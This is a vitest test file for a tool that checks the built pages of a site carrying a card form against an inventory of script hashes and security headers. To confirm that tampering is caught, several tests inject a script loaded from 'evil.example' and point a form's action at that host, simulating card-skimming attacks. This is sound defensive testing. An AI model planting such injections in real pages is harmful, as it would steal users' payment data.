import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { compareCardPages, type SiteResponse } from '#tools/card-pages/compare.ts';
import { INVENTORY_FILE, readInventory } from '#tools/card-pages/inventory.ts';
import { builtFileFor } from '#tools/platform/site-routes.ts';
import { startTags } from '#tools/site-checks/built-page.ts';
import { builtPages, SITE } from '../support/built-site.ts';

const inventory = readInventory(join(SITE, INVENTORY_FILE));
const headersOf = new Map(inventory.pages.map(({ path, headers }) => [path, headers]));

/** Serves the built site as a host that follows the inventory’s headers does. */
function serve(path: string): SiteResponse {
  const file = join(SITE, builtFileFor(path));
  const found = existsSync(file);
  const headers = new Headers(headersOf.get(path) ?? {});
  return { status: found ? 200 : 404, headers, body: found ? readFileSync(file, 'utf8') : '' };
}

const compare = (change: (path: string, response: SiteResponse) => SiteResponse) =>
  compareCardPages(inventory, (path) => Promise.resolve(change(path, serve(path))));

describe('the inventory of the pages with a card form', () => {
  test('lists each of them, and no other page', () => {
    const built = builtPages()
      .filter(({ html }) => /\sdata-card-form\b/.test(startTags(html, 'html')[0] ?? ''))
      .map(({ address }) => address);
    expect(inventory.pages.map(({ path }) => path).sort()).toEqual(built.sort());
    expect(built.length).toBeGreaterThan(0);
  });

  test('holds a hash and a purpose for every script that such a page can load', () => {
    const listed = new Set(inventory.scripts.map(({ source }) => source));
    const files = inventory.pages.flatMap((page) => page.files);
    expect(files.filter((file) => !listed.has(file))).toEqual([]);
    const hashes = new Set(inventory.scripts.map(({ hash }) => hash));
    const inline = inventory.pages.flatMap((page) => page.inline);
    expect(inline.filter((hash) => !hashes.has(hash))).toEqual([]);
    expect(inventory.scripts.filter(({ purpose }) => purpose === '')).toEqual([]);
  });

  test('agrees with the site that was built with it', async () => {
    expect(await compare((_, response) => response)).toEqual([]);
  });

  test('reports one added byte in any script file', async () => {
    const files = inventory.scripts.map(({ source }) => source).filter((path) => path !== 'inline');
    const differences = await compare((path, response) =>
      files.includes(path) ? { ...response, body: `${response.body} ` } : response,
    );
    expect(differences).toEqual(files.map((path) => `${path}: the script differs`));
  });

  test('reports one added byte in any inline script, of an added script, and of any other change', async () => {
    for (const change of [
      (html: string) => html.replaceAll('</script>', ' </script>'),
      (html: string) =>
        html.replace('</head>', '<script src="https://evil.example/x.js"></script></head>'),
      (html: string) => html.replace('<form', '<form action="https://evil.example/"'),
      (html: string) => html.replace("base-uri 'none'", "base-uri 'self'"),
      (html: string) => `${html} `,
    ]) {
      const differences = await compare((path, response) => ({
        ...response,
        body: headersOf.has(path) ? change(response.body) : response.body,
      }));
      const pages = new Set(differences.map((line) => line.split(':')[0]));
      const changed = [...headersOf.keys()].filter(
        (path) => change(serve(path).body) !== serve(path).body,
      );
      expect([...pages]).toEqual(changed);
      expect(changed.length).toBeGreaterThan(0);
    }
  });

  test('reports any security header that is missing or differs', async () => {
    const [page] = inventory.pages;
    for (const name of Object.keys(page?.headers ?? {})) {
      const differences = await compare((path, response) => {
        const headers = new Headers(headersOf.get(path) ?? {});
        if (path === page?.path) headers.set(name, 'changed');
        return { ...response, headers };
      });
      expect(differences).toEqual([`${page?.path}: header ${name}: changed`]);
    }
  });
});
